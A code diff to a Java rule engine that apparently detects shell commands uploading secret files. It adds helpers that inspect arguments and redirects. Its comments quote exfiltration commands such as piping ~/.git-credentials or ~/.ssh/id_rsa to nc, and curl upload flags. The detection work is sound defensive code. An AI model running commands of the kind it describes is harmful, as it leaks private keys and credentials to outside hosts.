@@ -146,9 +146,7 @@ interface Rule {
                 if (secrets != null) {
                     String args = String.join(" ", e.argv());
                     List<Secrets.Found> found = secrets.find(args);
-                    boolean secretFile = e.argv().stream().anyMatch(a -> a.startsWith("[secret file ")
-                            || a.contains("@") && Recorder.isSecretFile(PathGlob.canonical(
-                            a.substring(a.lastIndexOf('@') + 1), "/")));
+                    boolean secretFile = uploadsSecretFile(e) || readsSecretFile(f);
                     if (found.isEmpty() && !secretFile) {
                         continue;
                     }
@@ -159,6 +157,38 @@ interface Rule {
             }
             return null;
         }
+    }
+
+    /**
+     * A sender given a secret file: as an operand, an option's value (-T, --upload-file, --post-file=,
+     * -F key=@file, -d @file) or its standard input (nc host < ~/.ssh/id_rsa).
+     */
+    private static boolean uploadsSecretFile(Shell.Exec e) {
+        for (String a : e.argv().subList(1, e.argv().size())) {
+            if (a.startsWith("[secret file ")) {
+                return true;
+            }
+            String candidate = a.substring(Math.max(a.lastIndexOf('@'), a.indexOf('=')) + 1);
+            if (!candidate.isEmpty() && Recorder.isSecretPath(PathGlob.canonical(candidate, "/root"))) {
+                return true;
+            }
+        }
+        for (Shell.Redirect r : e.redirects()) {
+            if (!r.writes() && Recorder.isSecretPath(PathGlob.canonical(r.target(), "/root"))) {
+                return true;
+            }
+        }
+        return false;
+    }
+
+    /** Some program of the same command reads a secret file (cat ~/.git-credentials | nc host 9000). */
+    private static boolean readsSecretFile(Facts f) {
+        for (Shell.Exec e : f.execs) {
+            if (!e.argv().isEmpty() && uploadsSecretFile(e)) {
+                return true;
+            }
+        }
+        return false;
     }
 
     /** {@code config_change}: a setting that turns the named thing on (or its opposite off). */
